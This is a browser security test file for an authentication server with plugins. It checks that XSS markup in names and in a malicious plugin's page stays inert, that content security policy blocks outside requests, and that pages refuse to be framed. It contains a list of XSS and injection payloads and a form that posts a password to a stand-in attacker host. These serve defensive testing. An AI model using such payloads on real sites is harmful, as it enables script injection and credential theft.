// What other people and plugins write, in a real browser: it stays text, runs nowhere, and goes nowhere.
import { execFile } from "node:child_process";
import http from "node:http";
import path from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, expect, test } from "vitest";
import { PASSWORD, serve } from "../client/harness.mjs";
import { BINARY, ROOT } from "../harness/doorward.mjs";
import { people, ready } from "./person.mjs";

const OUT = path.join(ROOT, "target/pages");
const config = {
  app_name: '<img src=x onerror="document.title=1">',
  plugins: ["pages", "two-factor", "passkey", "multi-session"].map((id) => ({ id })),
};
beforeAll(async () => {
  await promisify(execFile)(BINARY, ["plugin", "build", path.join(ROOT, "tests/pages/plugins"), "--out", OUT], { cwd: ROOT });
  config.plugins.push({ id: "mallory", path: path.join(OUT, "mallory.wasm"), grants: ["pages", "cookies", "section:account.security", "section:sign-in.notice"] });
}, 240_000);
const server = serve(config);
const { open } = people(server);

/** A site of somebody else, which shows `html` and counts who asks it for something. */
const asked = [];
let html = "";
const evil = http.createServer((request, response) => {
  if (request.url !== "/") asked.push(request.url);
  response.writeHead(200, { "content-type": "text/html" }).end(html);
});
await new Promise((resolve) => evil.listen(0, "127.0.0.1", resolve));
const elsewhere = `http://127.0.0.1:${evil.address().port}`;
afterAll(() => { evil.closeAllConnections(); evil.close(); });

async function signedIn() {
  const mallory = await open("/sign-in");
  const data = { name: '<img src=x onerror="document.title=1">', email: `eve${Math.random()}@example.com`.replace("0.", ""), password: PASSWORD };
  const answer = await mallory.context.request.post(`${server.origin}/api/auth/sign-up/email`, { data, headers: { origin: server.origin } });
  expect(answer.ok()).toBe(true);
  return mallory;
}

test("a section, a person and a site whose names are markup are shown as text", async () => {
  const { page, context, complaints } = await signedIn();
  for (const place of ["/account/security", "/account", "/sign-in?add=1", "/error?error=%3Cimg%20src%3Dx%20onerror%3D%22document.title%3D1%22%3E"]) {
    await page.goto(server.origin + place);
    await ready(page);
    await page.waitForLoadState("networkidle");
    await expect.poll(() => page.locator('img[src="x"], main script, [onerror]').count(), { message: place }).toBe(0);
    expect(await page.title(), place).not.toMatch(/^(1|mallory)$/);
  }
  await page.goto(`${server.origin}/account/security`);
  await ready(page);
  await page.locator("#mallory").getByRole("button", { name: "Act", exact: true }).click();
  await page.locator("#ask h2", { hasText: "<img src=x" }).waitFor();
  await page.locator("#ask button[type=submit]").click();
  await page.waitForLoadState("load");
  await ready(page);
  await page.getByText("<img src=x onerror").first().waitFor();
  await expect.poll(() => page.locator('img[src="x"], [onerror]').count()).toBe(0);
  expect(complaints).toEqual([]);
  await context.close();
});

test("a plugin's page without the right to scripts runs nothing, frames nothing, sends nothing elsewhere and widens nothing", async () => {
  const { page, context } = await signedIn();
  const before = await context.cookies();
  const attempt = (markup) => page.goto(`${server.origin}/mallory?${new URLSearchParams({ html: markup })}`, { waitUntil: "networkidle" });
  const module = await (await context.request.get(`${server.origin}/account`)).text().then((text) => text.match(/src="([^"]+page\.js)"/)[1]);
  const policy = (source) => `<meta http-equiv="content-security-policy" content="default-src * 'unsafe-inline' 'unsafe-eval'"><base href="${elsewhere}/">${source}`;
  for (const markup of [
    "<script>document.title='mallory'</script>",
    '<img src="x" onerror="document.title=\'mallory\'"><svg onload="document.title=\'mallory\'"></svg>',
    `<script src="${elsewhere}/evil.js"></script><link rel="stylesheet" href="${elsewhere}/evil.css"><img src="${elsewhere}/evil.png">`,
    '<a id="go" href="javascript:document.title=\'mallory\'">go</a>',
    policy("<script>document.title='mallory'</script><script src=\"evil.js\"></script>"),
    `<script type="module" src="${module}"></script>`,
    `<iframe name="other" src="/account"></iframe><object data="/account"></object><embed src="/account">`,
    `<iframe srcdoc="<script>parent.document.title='mallory'</script>"></iframe>`,
  ]) {
    await attempt(markup);
    if (markup.includes('id="go"')) await page.locator("#go").click({ noWaitAfter: true });
    expect(await page.title(), markup).toBe("Page");
    await expect.poll(() => page.locator("html[data-ready]").count(), { message: markup }).toBe(0);
    const framed = page.frames().slice(1).map((frame) => frame.url()).filter((url) => url.startsWith(server.origin));
    expect(framed, markup).toEqual([]);
  }
  await attempt(`<form action="${elsewhere}/taken" method="post"><input name="password" value="secret"><button>Sign in</button></form>`);
  const refused = page.waitForEvent("console", (message) => /form-action/.test(message.text()));
  await page.getByRole("button").click({ noWaitAfter: true });
  await refused;
  expect(new URL(page.url()).origin).toBe(server.origin);
  expect(asked, "nothing left for elsewhere").toEqual([]);
  await expect.poll(() => page.locator("#taken").textContent(), { message: "cookies of others" }).toBe("");
  expect(await context.cookies()).toEqual(before);
  await context.close();
});

test("no page is shown in a frame of another site", async () => {
  const { page, context } = await signedIn();
  for (const place of ["/sign-in", "/account", "/account/security", "/mallory"]) {
    html = `<!doctype html><iframe src="${server.origin}${place}"></iframe>`;
    const refused = page.waitForEvent("console", (message) => /frame-ancestors|Refused to (frame|display)|Framing/.test(message.text()));
    await page.goto(elsewhere, { waitUntil: "load" });
    await refused;
    expect(page.frames().map((frame) => frame.url()).filter((url) => url.startsWith(server.origin)), place).toEqual([]);
  }
  await context.close();
});
